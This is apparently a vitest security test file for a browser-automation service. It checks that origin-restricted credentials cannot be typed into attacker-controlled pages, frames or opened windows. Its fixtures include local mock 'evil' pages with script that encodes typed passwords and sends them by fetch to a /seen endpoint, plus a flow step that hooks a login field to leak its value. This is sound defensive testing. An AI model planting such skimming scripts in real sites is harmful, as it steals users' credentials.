import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RunStatusResponse, RunWorkflowResponse } from '../../contract/runs.ts';
import { credentialValue } from '../helpers/credentials.ts';
import { postJson, startServer, type TestServer } from '../helpers/server.ts';
import { waitForAsync } from '../helpers/wait.ts';

// allowed_origins through the API, in real Chromium: a flow that types a credential into a page
// of its own making, which reads it back through btoa() past redaction, is refused at the change
// step for a credential kept to another origin, and nothing of the value reaches that page; the
// same credential is still typed into a page of its origin. Each run is one session and browser.

interface Site {
  origin: string;
  /** Every value the page reported having in a field (the attacker's page), or that was posted to it (the bank's form). */
  received: string[];
  close(): Promise<void>;
}

async function serve(route: (url: URL, body: string, site: Site) => string): Promise<Site> {
  const site: Site = { origin: '', received: [], close: async () => undefined };
  const server = http.createServer(async (req, res) => {
    let body = '';
    for await (const chunk of req) body += String(chunk);
    const url = new URL(req.url ?? '/', site.origin);
    res
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' })
      .end(route(url, body, site));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  site.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  site.close = () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve())));
  return site;
}

/** The site a credential belongs to: a login form that posts back, and the page it answers. */
const bankSite = () =>
  serve((url, body, site) => {
    // An allowed page holding another origin's frame (an ad) and a field that cannot take the focus.
    if (url.pathname === '/framed-ad')
      return `<!doctype html><title>Bank</title><iframe src="${url.searchParams.get('ad')}/steal" width="600" height="200"></iframe>
        <div inert><input id="trap" name="pw"></div>`;
    if (url.pathname === '/submit') {
      site.received.push(new URLSearchParams(body).get('pw') ?? '');
      return '<!doctype html><title>Signed in</title><p id="done">Signed in</p>';
    }
    return `<!doctype html><title>Bank</title>
      <form method="post" action="/submit"><input id="user" name="user"><input id="pw" name="pw" type="password"><button id="go">Sign in</button></form>`;
  });

/**
 * The attacker's site: /steal writes btoa() (data-x) and each character shifted by one (data-y) of whatever is typed into its field where an extract
 * step can read it, and reports each value to the site; /frame holds the bank's login in a frame.
 */
const evilSite = (bank: Site) =>
  serve((url, _body, site) => {
    if (url.pathname === '/seen') {
      site.received.push(url.searchParams.get('v') ?? '');
      return '';
    }
    if (url.pathname === '/frame')
      return `<!doctype html><title>Framed</title><iframe src="${bank.origin}/login" width="600" height="200"></iframe>`;
    if (url.pathname === '/opener')
      return `<!doctype html><title>Opener</title><button id="open" onclick="window.open('${bank.origin}/login')">Sign in</button>`;
    return `<!doctype html><title>Totally the bank</title>
      <input id="pw" autofocus><p id="out" data-x=""></p>
      <script>
        const pw = document.getElementById('pw');
        pw.addEventListener('input', () => {
          document.getElementById('out').setAttribute('data-x', btoa(pw.value));
          const shifted = [...pw.value].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');
          document.getElementById('out').setAttribute('data-y', shifted);
          fetch('/seen?v=' + encodeURIComponent(pw.value));
        });
      </script>`;
  });

let server: TestServer;
let bank: Site;
let evil: Site;
beforeAll(async () => {
  server = await startServer();
  bank = await bankSite();
  evil = await evilSite(bank);
});
afterAll(async () => {
  await server?.close();
  await bank?.close();
  await evil?.close();
});

const uniq = (prefix: string) => `${prefix}_${randomBytes(4).toString('hex')}`;
/**
 * A random credential value of capital consonants: a value with digits shares 4-character runs with
 * the ports and ids a step's message names, which the run's redaction (any 4 characters of a typed
 * credential in a row) would then mask in the message the test compares.
 */
const secretValue = () => credentialValue(24);

async function store(name: string, value: string, allowed_origins: string[]): Promise<void> {
  const res = await postJson(server, '/api/store_credential', { name, value, allowed_origins });
  expect(res.status, await res.clone().text()).toBe(200);
}

/** Save a flow (navigate to {{site}}{{path}} first) and run it; the run's final status. */
async function run(steps: unknown[], site: Site, path: string): Promise<RunStatusResponse> {
  const created = await postJson(server, '/api/workflows', {
    name: uniq('origins'),
    // 30 s a step: these steps succeed or fail by the policy, never by the clock (a loaded host took over 5 s).
    flow: {
      title: 'credential origins',
      timeout: 30_000,
      steps: [{ type: 'navigate', url: `{{site}}${path}` }, ...steps],
    },
    variables: [{ name: 'site', type: 'string', required: true }],
  });
  expect(created.status, await created.clone().text()).toBe(201);
  const fd = new FormData();
  fd.append('workflow_id', ((await created.json()) as { id: string }).id);
  fd.append('variables', JSON.stringify({ site: site.origin }));
  const started = RunWorkflowResponse.parse(
    await (await server.api('/api/run_workflow', { method: 'POST', body: fd })).json(),
  );
  expect(started.succeeded, started.message).toBe(true);
  for (;;) {
    const status = RunStatusResponse.parse(
      await (await server.api(`/api/run_workflow_status?session_id=${started.session_id}`)).json(),
    );
    if (status.completed) return status;
    await new Promise((r) => setTimeout(r, 150));
  }
}

/** The read-back attack: type `x-VALUE-y` into the attacker's field, extract what its page made of it. */
const readBack = (name: string) => [
  { type: 'change', selectors: [['#pw']], value: `x-{{credentials.${name}}}-y` },
  { type: 'customStep', name: 'extract', parameters: { selectors: [['#out']], as: 'stolen', attribute: 'data-x' } },
];

describe('a credential kept to its origins', () => {
  it('without origins, the read-back attack works: redaction catches btoa(value), not every transform', async () => {
    // Why allowed_origins exists (SECURITY.md): a page that receives a secret can hand it back transformed.
    const name = uniq('anywhere');
    const value = secretValue();
    await store(name, value, []);
    const status = await run(
      [
        ...readBack(name),
        {
          type: 'customStep',
          name: 'extract',
          parameters: { selectors: [['#out']], as: 'shifted', attribute: 'data-y' },
        },
      ],
      evil,
      '/steal',
    );
    expect(status.message).toBe('All 4 steps succeeded');
    // Base64 is one of the forms redaction knows (issue 44): what is left of it holds no run of the value.
    expect(status.outputs.stolen).toContain(`[credentials.${name}]`);
    expect(
      Buffer.from(status.outputs.stolen!.replace(/\[credentials\.[^\]]*\]/g, ''), 'base64').toString(),
    ).not.toContain(value.slice(0, 6));
    const unshifted = [...status.outputs.shifted!].map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
    expect(unshifted).toBe(`x-${value}-y`);
    // The page's report of it is a request of its own, which may reach the site after the run's status.
    await waitForAsync('the page to report the value', () =>
      evil.received.includes(`x-${value}-y`) ? true : undefined,
    );
  });

  it("kept to the bank, the same flow fails at the change step, and the attacker's page gets nothing", async () => {
    const name = uniq('bank_pw');
    const value = secretValue();
    await store(name, value, [bank.origin]);
    const seenBefore = evil.received.length;
    const status = await run(readBack(name), evil, '/steal');
    expect(status.succeeded).toBe(false);
    expect(status.message).toBe(
      `Step 2 (change #pw): the credential "${name}" may only be typed into ${bank.origin}; this page is ${evil.origin}`,
    );
    expect(status.results.map((r) => [r.action, r.result.ok])).toEqual([
      ['navigate', true],
      ['change', false],
    ]);
    expect(status.results[1]!.params).toMatchObject({ value: `x-{{credentials.${name}}}-y` });
    expect(status.outputs).toEqual({});
    // The page reported no keystroke at all (it reports every change of its field).
    await new Promise((r) => setTimeout(r, 300));
    expect(evil.received.slice(seenBefore)).toEqual([]);
    expect(JSON.stringify(status)).not.toContain(value);
  });

  it('is typed into a page of its origin, and the form there receives it', async () => {
    const name = uniq('bank_pw');
    const value = secretValue();
    await store(name, value, [bank.origin]);
    const status = await run(
      [
        { type: 'change', selectors: [['#user']], value: 'ada' },
        { type: 'change', selectors: [['#pw']], value: `{{credentials.${name}}}` },
        {
          type: 'click',
          selectors: [['#go']],
          offsetX: 3,
          offsetY: 3,
          assertedEvents: [{ type: 'navigation', title: 'Signed in' }],
        },
        { type: 'waitForElement', selectors: [['#done']] },
      ],
      bank,
      '/login',
    );
    expect(status.message).toBe('All 5 steps succeeded');
    expect(bank.received).toContain(value);
  });

  it("is not typed into its origin's page held in a frame of another origin, which could navigate it while it is typed", async () => {
    const name = uniq('bank_pw');
    await store(name, secretValue(), [bank.origin]);
    const received = bank.received.length;
    const status = await run(
      [{ type: 'change', selectors: [['#pw']], frame: [0], value: `{{credentials.${name}}}` }],
      evil,
      '/frame',
    );
    expect(status.message).toBe(
      `Step 2 (change #pw): the credential "${name}" may only be typed into ${bank.origin}; this field is in a frame of ${bank.origin} inside ${evil.origin}, which can navigate it`,
    );
    expect(bank.received.length).toBe(received);
  });

  it("is not typed into its origin's window opened by another origin, which keeps a hand on it", async () => {
    const name = uniq('bank_pw');
    await store(name, secretValue(), [bank.origin]);
    const received = bank.received.length;
    const status = await run(
      [
        { type: 'click', selectors: [['#open']], offsetX: 3, offsetY: 3 },
        { type: 'change', target: `${bank.origin}/login`, selectors: [['#pw']], value: `{{credentials.${name}}}` },
      ],
      evil,
      '/opener',
    );
    expect(status.message).toBe(
      `Step 3 (change #pw): the credential "${name}" may only be typed into ${bank.origin}; this page of ${bank.origin} was opened by ${evil.origin}, which can navigate it`,
    );
    expect(bank.received.length).toBe(received);
  });

  it("is not typed through its origin's page into another origin's frame that holds the focus", async () => {
    // The fill types with the keyboard; the inert field cannot take the focus, which stays in the
    // attacker's frame, so without the check the keys went there.
    const name = uniq('bank_pw');
    await store(name, secretValue(), [bank.origin]);
    const seenBefore = evil.received.length;
    const status = await run(
      [
        { type: 'click', frame: [0], selectors: [['#pw']], offsetX: 3, offsetY: 3 },
        { type: 'change', selectors: [['#trap']], value: `{{credentials.${name}}}` },
      ],
      bank,
      `/framed-ad?ad=${encodeURIComponent(evil.origin)}`,
    );
    expect(status.message).toBe(
      `Step 3 (change #trap): the field did not take the focus (it is inert, hidden or disabled, or the page keeps the focus elsewhere), so the keys typing the credential "${name}" would go wherever the focus is, a frame of another origin included: nothing was typed`,
    );
    await new Promise((r) => setTimeout(r, 300));
    expect(evil.received.slice(seenBefore)).toEqual([]);
  });

  it("a run that types one runs none of the flow's own script, even on its origin's page", async () => {
    const name = uniq('bank_pw');
    await store(name, secretValue(), [bank.origin]);
    // The script would send the field's value anywhere once it is typed.
    const status = await run(
      [
        {
          type: 'waitForExpression',
          expression: `(document.getElementById('pw').oninput = (e) => fetch('${evil.origin}/seen?v=' + e.target.value), true)`,
        },
        { type: 'change', selectors: [['#pw']], value: `{{credentials.${name}}}` },
      ],
      bank,
      '/login',
    );
    expect(status.message).toBe(
      `Step 2 (waitForExpression): this run types the credential "${name}", kept to its allowed origins, so the flow may not run its own script in a page (it could read the field or send it anywhere): wait with waitForElement instead`,
    );
  });
});
